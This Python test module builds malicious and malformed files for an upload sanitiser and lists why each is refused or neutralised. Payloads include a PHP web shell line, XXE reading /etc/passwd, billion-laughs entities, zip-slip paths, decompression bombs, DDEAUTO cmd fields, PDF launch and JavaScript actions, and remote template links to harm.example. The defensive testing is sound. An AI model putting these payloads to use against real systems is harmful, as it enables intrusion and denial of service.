"""Files made to do harm, or broken, each under what it tries. Made here: none of them lies in a folder."""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from tests.files import made
from tests.files.made import SAID, box, changed, mp4, told_pdf, webm, word_file, zipped

from heard.files.refusing import Why

Make = Callable[[], bytes]
HTML = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
WORD_NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _word(field: str) -> bytes:
    body = f"<w:document {WORD_NAMES}><w:body><w:p>{field}</w:p></w:body></w:document>"
    return changed(word_file(), word__document_dot_xml=body.encode())


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    one = f'<Relationship Id="rIdX" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return _with({"word/_rels/settings.xml.rels": f"{head}{one}</Relationships>".encode()})


def _with(parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(BytesIO(word_file())) as folder:
        there = {name: folder.read(name) for name in folder.namelist()}
    return zipped(there | parts)


def _added(change: Callable[[zipfile.ZipFile], Any]) -> bytes:
    out = BytesIO(word_file())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as folder:
        change(folder)
    return out.getvalue()


def _link() -> bytes:
    member = zipfile.ZipInfo("word/link")
    member.external_attr = 0o120777 << 16
    return _added(lambda folder: folder.writestr(member, "/etc/passwd"))


def _twice() -> bytes:
    return _added(lambda folder: folder.writestr("WORD/DOCUMENT.XML", "x"))


def _locked_zip() -> bytes:
    content = bytearray(word_file())
    at = content.rfind(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _lying_zip() -> bytes:
    """A part that says it is small and is not."""
    content = bytearray(_with({"word/big.xml": b"<x>" + b"a" * 5000 + b"</x>"}))
    for mark, at_size in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = content.find(b"word/big.xml") if mark == b"PK\x03\x04" else content.rfind(b"word/big.xml")
        begins = content.rfind(mark, 0, at)
        content[begins + at_size : begins + at_size + 4] = struct.pack("<I", 10)
    return bytes(content)


def _open_document(**parts: bytes) -> bytes:
    return changed(made.open_document(), **parts)


def _pdf(change: Callable[[Any], None], **saving: Any) -> Make:
    return lambda: told_pdf(change, **saving)


def _launches(pdf: Any) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="calc.exe")


def _scripts(pdf: Any) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert('HARM')")
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", Dictionary(S=Name.JavaScript, JS="HARM")]))
    )


def _on_page(pdf: Any) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="HARM"))


def _note(subtype: Any, **more: Any) -> Callable[[Any], None]:
    def change(pdf: Any) -> None:
        one = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 9, 9]), **more)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(one)])

    return change


def _holds_file(pdf: Any) -> None:
    pdf.attachments["harm.exe"] = b"MZ HARM"


def _form(pdf: Any) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp>HARM</xdp>"))


def _looping(pdf: Any) -> None:
    pages = pdf.Root.Pages
    pages.Kids.append(pages)


def _rewritten() -> bytes:
    """A PDF with an earlier version of itself beneath."""
    first = told_pdf()
    return first + b"\n9 0 obj\n(HARM)\nendobj\nxref\n0 0\ntrailer\n<<>>\nstartxref\n0\n%%EOF\n"


def _pixels(kind: bytes = b"IHDR") -> bytes:
    """A picture that says it is sixty thousand dots wide and high, in a hundred bytes."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(head)) + kind + head + struct.pack(">I", zlib.crc32(kind + head))
    data = zlib.compress(b"\x00" * 1000)
    more = struct.pack(">I", len(data)) + b"IDAT" + data + struct.pack(">I", zlib.crc32(b"IDAT" + data))
    return b"\x89PNG\r\n\x1a\n" + chunk + more + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def _png_with(kind: bytes, body: bytes) -> bytes:
    content = made.picture("PNG")
    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return content[:33] + chunk + content[33:]


def _nested_boxes() -> bytes:
    inner = box(b"free")
    for _ in range(40):
        inner = box(b"moov", inner)
    return box(b"ftyp", b"isom" + bytes(4)) + inner


REFUSED: dict[str, tuple[str, Make, Why]] = {
    # Programs, scripts and shortcuts, whatever they are called
    "a Windows program called a photo": ("photo.jpg", lambda: b"MZ\x90\x00" + bytes(99), Why.PROGRAM),
    "a Linux program": ("photo.jpg", lambda: b"\x7fELF" + bytes(99), Why.PROGRAM),
    "a Mac program": ("a.pdf", lambda: b"\xcf\xfa\xed\xfe" + bytes(99), Why.PROGRAM),
    "a Java class": ("a.pdf", lambda: b"\xca\xfe\xba\xbe" + bytes(99), Why.PROGRAM),
    "a WebAssembly program": ("a.pdf", lambda: b"\x00asm\x01\x00\x00\x00", Why.PROGRAM),
    "a Windows shortcut": ("photo.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99), Why.PROGRAM),
    "a cabinet": ("a.cab", lambda: b"MSCF" + bytes(99), Why.PROGRAM),
    "a shell script": ("notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Why.PROGRAM),
    "a batch file": ("notes.bat", lambda: b"del /q *\n", Why.PROGRAM),
    "a PowerShell script": ("notes.ps1", lambda: b"Remove-Item *\n", Why.PROGRAM),
    "a Visual Basic script": ("notes.vbs", lambda: b'MsgBox "x"\n', Why.PROGRAM),
    "a JavaScript file": ("notes.js", lambda: b"alert(1)\n", Why.PROGRAM),
    "an internet shortcut": ("notes.url", lambda: b"[InternetShortcut]\nURL=http://x.example\n", Why.PROGRAM),
    "a registry file": ("notes.reg", lambda: b"Windows Registry Editor Version 5.00\n", Why.PROGRAM),
    # Pages and drawings that hold scripts
    "a web page": ("page.html", lambda: HTML, Why.PAGE),
    "a web page called a text": ("page.txt", lambda: HTML, Why.PAGE),
    "a web page after a mark of order": ("page.txt", lambda: b"\xef\xbb\xbf" + HTML, Why.PAGE),
    "a web page of wide letters": ("page.txt", lambda: "\ufeff<html>".encode("utf-16-le") + bytes(2), Why.PAGE),
    "a web page after blank lines": ("page.txt", lambda: b"\n" * 500 + HTML, Why.PAGE),
    "a web page far down in a text": ("page.txt", lambda: b"Dear council\n" * 4000 + HTML, Why.PAGE),
    "a web page as a mail": ("page.mht", lambda: b"MIME-Version: 1.0\n\n" + HTML, Why.PAGE),
    "a drawing": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Why.PAGE),
    "a drawing as XML": ("a.xml", lambda: b'<?xml version="1.0"?><svg onload="x"/>', Why.PAGE),
    "a PHP page": ("a.txt", lambda: b"<?php system($_GET[0]); ?>", Why.PAGE),
    "a declaration alone": ("a.txt", lambda: DOCTYPE, Why.PAGE),
    # Kinds that are not taken
    "an old Word file": ("a.doc", lambda: OLE + bytes(999), Why.KIND),
    "an installer": ("a.msi", lambda: OLE + bytes(9999), Why.KIND),
    "a GIF": ("a.gif", lambda: b"GIF89a" + bytes(99), Why.KIND),
    "a TIFF": ("a.tif", lambda: b"II*\x00" + bytes(99), Why.KIND),
    "bytes of nothing": ("a.bin", lambda: bytes(range(128, 256)) * 9, Why.KIND),
    "a film of an unknown brand": ("a.mp4", lambda: box(b"ftyp", b"xxxx" + bytes(4)), Why.KIND),
    "nothing": ("a.pdf", lambda: b"", Why.EMPTY),
    "spaces": ("a.pdf", lambda: b" \n\x00" * 9, Why.EMPTY),
    "a 7z folder": ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), Why.PACKED),
    "a RAR folder": ("a.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(99), Why.PACKED),
    "a gzip file": ("a.gz", lambda: b"\x1f\x8b\x08" + bytes(99), Why.PACKED),
    "a zip folder": ("a.zip", lambda: zipped({"a.pdf": made.plain_pdf()}), Why.PACKED),
    "an empty zip folder": ("a.zip", lambda: b"PK\x05\x06" + bytes(18), Why.PACKED),
    # Two kinds in one
    "a photo that is also a zip": ("a.jpg", lambda: made.picture() + zipped({"x": b"x"}), Why.TWO_KINDS),
    "a PDF that is also a zip": ("a.pdf", lambda: made.plain_pdf() + zipped({"x": b"x"}), Why.TWO_KINDS),
    "a text that is also a zip": ("a.txt", lambda: b"Dear council\n" + zipped({"x": b"x"}), Why.TWO_KINDS),
    "a photo that is also a PDF": (
        "a.jpg", lambda: b"\xff\xd8\xff\xfe\x00\x0b%PDF-1.7\n" + made.picture()[2:], Why.TWO_KINDS),
    "a photo that is also a page": (
        "a.png", lambda: _png_with(b"tEXt", b"x\x00<script>alert(1)</script>"), Why.TWO_KINDS),
    "a photo with a page in its marks": (
        "a.jpg", lambda: made.picture().replace(SAID, b"<SCRIPT src=HARM>".ljust(len(SAID))), Why.TWO_KINDS),
    "a sound that is also a page": ("a.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x00\x40" + HTML, Why.TWO_KINDS),
    "a PDF that is also a page": ("a.pdf", lambda: b"%PDF-1.7\n<html><body>\n" + made.plain_pdf(), Why.TWO_KINDS),
    "a text that is also a PDF": ("a.txt", lambda: b"Dear council\n" + made.plain_pdf(), Why.TWO_KINDS),
    # Packed files that swell, land elsewhere or run
    "a Word file with macros": ("a.docx", lambda: _with({"word/vbaProject.bin": b"x"}), Why.MACROS),
    "a Word file that may hold macros": (
        "a.docm", lambda: _with({"[Content_Types].xml": b'<Types t="ms-word.document.macroEnabled.main+xml"/>'}),
        Why.MACROS),
    "a workbook with a macro sheet": (
        "a.xlsx", lambda: changed(made.workbook(), xl__macrosheets__sheet1_dot_xml=b"<x/>"), Why.MACROS),
    "a Word file with a control": ("a.docx", lambda: _with({"word/activeX/activeX1.xml": b"<x/>"}), Why.MACROS),
    "an OpenDocument with macros": ("a.odt", lambda: _open_document(Basic__Standard__x_dot_xml=b"<x/>"), Why.MACROS),
    "a field that starts a program": (
        "a.docx", lambda: _word('<w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r>'), Why.MACROS),
    "a field that starts a program, in one": (
        "a.docx", lambda: _word('<w:fldSimple w:instr="DDE cmd calc"/>'), Why.MACROS),
    "a Word file with a program inside": (
        "a.docx", lambda: _with({"word/media/a.png": b"MZ" + bytes(99)}), Why.PROGRAM),
    "a Word file with an old object inside": (
        "a.docx", lambda: _with({"word/embeddings/oleObject1.bin": OLE + bytes(99)}), Why.PROGRAM),
    "a Word file with a page inside": ("a.docx", lambda: _with({"word/afchunk.html": HTML}), Why.PROGRAM),
    "a Word file that takes in another": ("a.docx", lambda: _related("aFChunk", "x.mht", "Internal"), Why.PROGRAM),
    "a Word file with a macro file inside": (
        "a.docx", lambda: _with({"word/embeddings/a.xlsx": zipped({"xl/vbaProject.bin": b"x"})}), Why.MACROS),
    "a file of 20 MB in a few kB": ("a.docx", lambda: _with({"word/media/a.emf": bytes(20 * 2**20)}), Why.SWELLS),
    "a part that lies about its size": ("a.docx", _lying_zip, Why.DAMAGED),
    "three thousand parts": (
        "a.docx", lambda: _with({f"word/{number}.xml": b"" for number in range(3000)}), Why.TOO_MANY_PARTS),
    "a part that climbs out": ("a.docx", lambda: _with({"../../etc/cron.d/x": b"x"}), Why.OUTSIDE),
    "a part at the root": ("a.docx", lambda: _with({"/etc/cron.d/x": b"x"}), Why.OUTSIDE),
    "a part on a drive": ("a.docx", lambda: _with({"C:\\x": b"x"}), Why.OUTSIDE),
    "a part that is a link": ("a.docx", _link, Why.OUTSIDE),
    "two parts of one name": ("a.docx", _twice, Why.OUTSIDE),
    "a locked Word file": ("a.docx", _locked_zip, Why.LOCKED),
    "a locked OpenDocument": (
        "a.odt", lambda: _open_document(**{"META-INF__manifest_dot_xml": b"<x><encryption-data/></x>"}), Why.LOCKED),
    "a declaration that reads a file": ("a.docx", lambda: _with({"word/document.xml": DOCTYPE}), Why.DECLARES),
    "a declaration that swells": ("a.docx", lambda: _with({"word/styles.xml": LAUGHS}), Why.DECLARES),
    "a declaration in wide letters": (
        "a.docx", lambda: _with({"word/styles.xml": DOCTYPE.decode().encode("utf-16")}), Why.DECLARES),
    "a declaration in what points elsewhere": (
        "a.docx", lambda: _with({"word/_rels/x.xml.rels": DOCTYPE}), Why.DECLARES),
    "a declaration in a sheet": (
        "a.xlsx", lambda: changed(made.workbook(), xl__worksheets__sheet1_dot_xml=LAUGHS), Why.DECLARES),
    "a declaration in an OpenDocument": ("a.odt", lambda: _open_document(content_dot_xml=DOCTYPE), Why.DECLARES),
    "a Word file cut short": ("a.docx", lambda: word_file()[:9000], Why.DAMAGED),
    "a Word file without its list of parts": ("a.docx", lambda: zipped({"word/document.xml": b"<x/>"}), Why.DAMAGED),
    "a Word file of broken words": ("a.docx", lambda: _with({"word/document.xml": b"<x><y></x>"}), Why.DAMAGED),
    # PDF
    "a PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\nInvented.\n", Why.DAMAGED),
    "a PDF whose pages run in a circle": ("a.pdf", _pdf(_looping), Why.DAMAGED),
    "a PDF without pages": ("a.pdf", _pdf(lambda pdf: pdf.pages.__delitem__(0)), Why.DAMAGED),
    "a PDF under a password": (
        "a.pdf", lambda: told_pdf(encryption=pikepdf.Encryption(owner="x", user="y")), Why.LOCKED),
    "a PDF of 2,001 pages": ("a.pdf", lambda: made.plain_pdf(2001), Why.TOO_MANY_PAGES),
    # Pictures
    "3,600 million dots in a hundred bytes": ("a.png", _pixels, Why.TOO_MANY_DOTS),
    "a photo cut short": ("a.jpg", lambda: made.picture(size=(900, 900))[:-900], Why.DAMAGED),
    "a photo of rubbish": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(500), Why.DAMAGED),
    "a PNG of rubbish": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), Why.DAMAGED),
    "a WebP of rubbish": ("a.webp", lambda: b"RIFF\x40\x00\x00\x00WEBPVP8 " + bytes(60), Why.DAMAGED),
    "an iPhone photo of rubbish": ("a.heic", lambda: box(b"ftyp", b"heic" + bytes(4)) + bytes(500), Why.DAMAGED),
    "a PNG whose words swell": (
        "a.png", lambda: _png_with(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(80 * 2**20))), Why.DAMAGED),
    # Rich text
    "rich text with an object": ("a.rtf", lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", Why.PROGRAM),
    "rich text that updates itself": ("a.rtf", lambda: rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", Why.PROGRAM),
    "rich text that fetches": ("a.rtf", lambda: rb'{\rtf1{\field INCLUDEPICTURE "http://x.example"}}', Why.PROGRAM),
    "rich text that never ends": ("a.rtf", lambda: rb"{\rtf1{\info{\author x}", Why.DAMAGED),
    # Sound and film
    "a film whose box runs out of it": ("a.mp4", lambda: mp4()[:-9], Why.DAMAGED),
    "a film of boxes without end": ("a.mp4", _nested_boxes, Why.TOO_MUCH),
    "a film without a track": ("a.mp4", lambda: box(b"ftyp", b"isom" + bytes(4)), Why.DAMAGED),
    "a recording of rubbish": ("a.webm", lambda: b"\x1a\x45\xdf\xa3" + bytes(99), Why.DAMAGED),
    "a recording whose parts run out of it": ("a.webm", lambda: webm(live=False)[:60], Why.DAMAGED),
    "a sound of broken pages": ("a.ogg", lambda: made.ogg()[:40], Why.DAMAGED),
    "a sound that lies about its comments": (
        "a.ogg", lambda: made.ogg().replace(struct.pack("<I", len(SAID)), b"\xff\xff\xff\x7f"), Why.DAMAGED),
    "a sound without sound": ("a.wav", lambda: b"RIFF\x04\x00\x00\x00WAVE", Why.DAMAGED),
    "a sound of labels alone": ("a.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x00\x00", Why.DAMAGED),
}  # fmt: skip

# What is taken, because its words or pictures are worth having, and is harmless in the copy that people open.
MADE_HARMLESS: dict[str, tuple[str, Make, bytes]] = {
    "a PDF that runs a script on opening": ("a.pdf", _pdf(_scripts), b"HARM"),
    "a PDF that starts a program": ("a.pdf", _pdf(_launches), b"calc.exe"),
    "a PDF that runs a script on a page": ("a.pdf", _pdf(_on_page), b"HARM"),
    "a PDF with a file inside": ("a.pdf", _pdf(_holds_file), b"harm.exe"),
    "a PDF with a file as a note": (
        "a.pdf", _pdf(_note(Name.FileAttachment, FS=Dictionary(F="harm.exe"))), b"harm.exe"),
    "a PDF with a film": ("a.pdf", _pdf(_note(Name.RichMedia, RichMediaContent=Dictionary(X="HARM"))), b"HARM"),
    "a PDF that sends a form": (
        "a.pdf", _pdf(_note(Name.Link, A=Dictionary(S=Name.SubmitForm, F="http://harm.example"))), b"harm.example"),
    "a PDF that opens an address": (
        "a.pdf", _pdf(_note(Name.Link, A=Dictionary(S=Name.URI, URI="http://harm.example"))), b"harm.example"),
    "a PDF that opens another": (
        "a.pdf", _pdf(_note(Name.Link, A=Dictionary(S=Name.GoToR, F="\\\\harm.example\\x"))), b"harm.example"),
    "a PDF with a form that is a program": ("a.pdf", _pdf(_form), b"HARM"),
    "a PDF with an earlier version beneath": ("a.pdf", _rewritten, b"HARM"),
    "a PDF with words after its end": ("a.pdf", lambda: made.plain_pdf() + b"\nHARM\n", b"HARM"),
    "a Word file with a template elsewhere": (
        "a.docx", lambda: _related("attachedTemplate", "http://harm.example/x.dotm"), b"harm.example"),
    "a Word file with a picture elsewhere": (
        "a.docx", lambda: _related("image", "https://harm.example/x.png"), b"harm.example"),
    "a Word file that hands over a password": (
        "a.docx", lambda: _related("hyperlink", "file://harm.example/x"), b"harm.example"),
    "a field that fetches a picture": (
        "a.docx", lambda: _word('<w:r><w:instrText>INCLUDEPICTURE "http://harm.example"</w:instrText></w:r>'),
        b"harm.example"),
    "an OpenDocument with a picture elsewhere": (
        "a.odt",
        lambda: _open_document(
            content_dot_xml=b'<x xmlns:d="d" xmlns:xlink="l"><d:image xlink:href="http://harm.example/x"/></x>'),
        b"harm.example"),
    "an OpenDocument that runs on opening": (
        "a.odt",
        lambda: _open_document(content_dot_xml=b'<x xmlns:s="s"><s:event-listener s:name="HARM"/></x>'), b"HARM"),
    "a photo with words after its end": ("a.jpg", lambda: made.picture() + b"HARM" * 99, b"HARM"),
    "a sound with a program in its label": ("a.mp3", lambda: made.mp3() + b"", SAID),
}  # fmt: skip


def everything_in(content: bytes) -> bytes:
    """All bytes of a file, and of its parts, and of the streams of a PDF."""
    found = content
    if content.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(content)) as folder:
            found += b"".join(folder.read(name) for name in folder.namelist())
    if content.startswith(b"%PDF"):
        with pikepdf.open(BytesIO(content)) as pdf:
            streams = [one for one in pdf.objects if isinstance(one, pikepdf.Stream)]
            found += b"".join(one.read_raw_bytes() + _unpacked(one) for one in streams)
    return found + re.sub(rb"\x00", b"", found)


def _unpacked(stream: pikepdf.Stream) -> bytes:
    try:
        return stream.read_bytes()
    except pikepdf.PdfError:  # a picture, or nothing that is packed
        return b""
